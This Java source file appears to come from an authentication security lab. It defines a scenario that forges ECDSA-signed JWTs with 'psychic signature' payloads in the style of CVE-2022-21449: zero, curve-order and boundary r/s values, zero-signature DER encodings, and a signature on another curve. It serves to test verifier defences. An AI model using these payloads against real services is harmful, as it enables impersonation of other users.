package authlab.scenario.forge;

import static authlab.client.Carrier.JWT_BEARER;
import static authlab.client.Carrier.JWT_COOKIE;
import static authlab.client.Carrier.SESSION;
import static authlab.scenario.Defence.SIGNATURE_RANGE;
import static authlab.scenario.Expectation.notApplicable;
import static authlab.scenario.Expectation.unauthenticated;

import authlab.scenario.Attempt;
import authlab.scenario.Facts;
import authlab.scenario.Lab;
import authlab.scenario.Scenario;
import authlab.token.Signer;
import authlab.token.Token;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import org.jose4j.keys.EllipticCurves;

/**
 * The attacker signs with numbers that fit every text and every key, as long as nobody asks where they lie.
 *
 * <p>A half-fix that does not help: refusing a signature of zeros. The order of the curve is a zero too.
 */
public final class ForgePsychic implements Scenario {

    private static final int BYTES = 32;
    private static final BigInteger N = EllipticCurves.P256.getOrder();

    /** Zero, one, and what is next to where the numbers wrap around. */
    private static final List<BigInteger> NUMBERS = List.of(
            BigInteger.ZERO,
            BigInteger.ONE,
            N.subtract(BigInteger.ONE),
            N,
            N.add(BigInteger.ONE),
            BigInteger.ONE.shiftLeft(8 * BYTES).subtract(BigInteger.ONE));

    /** The two zeros as X.509 spells them, in several ways. */
    private static final List<String> IN_DER =
            List.of("3006020100020100", "30080202000002020000", "300402000200", "3080020100020100" + "0000", "3000");

    @Override
    public Facts facts() {
        return Facts.of("sign with two zeros, and other numbers that no key is needed for")
                .because("the library asks that both numbers lie between 1 and the order of the curve less 1")
                .on(SESSION, notApplicable("an opaque id is not signed, so there are no numbers to choose"))
                .on(JWT_BEARER, unauthenticated())
                .on(JWT_COOKIE, unauthenticated())
                .bitesWithout(SIGNATURE_RANGE)
                .standards(
                        "CVE-2022-21449",
                        "ASVS V6.8.2",
                        "ASVS V9.1.1",
                        "RFC 8725 §2.1",
                        "RFC 8725 §3.3",
                        "WSTG-SESS-10",
                        "CWE-347",
                        "OWASP A02:2021");
    }

    @Override
    public Attempt attack(Lab lab) {
        lab.step("Given a customer who has written another's name into her token,");
        Forger forger = Forger.in(lab);
        Token renamed = forger.renamed();

        lab.step("and signs it with numbers that she has not worked out, or with a key on another curve:");
        List<byte[]> signatures = new ArrayList<>(ofNumbers());
        IN_DER.forEach(der -> signatures.add(HexFormat.of().parseHex(der)));
        signatures.add(onAnotherCurve(renamed));

        lab.step("to be the other is the prize.");
        return Attempt.bestOf(signatures.stream()
                .map(signature ->
                        forger.present(renamed.withSignature(signature).text())));
    }

    private static List<byte[]> ofNumbers() {
        return NUMBERS.stream()
                .flatMap(r -> NUMBERS.stream().map(s -> pair(r, s)))
                .toList();
    }

    private static byte[] pair(BigInteger r, BigInteger s) {
        return HexFormat.of().parseHex(String.format("%064x%064x", r, s));
    }

    private static byte[] onAnotherCurve(Token token) {
        return Signer.madeFor("ES384").signature(token.header() + "." + token.payload(), "ES384");
    }
}
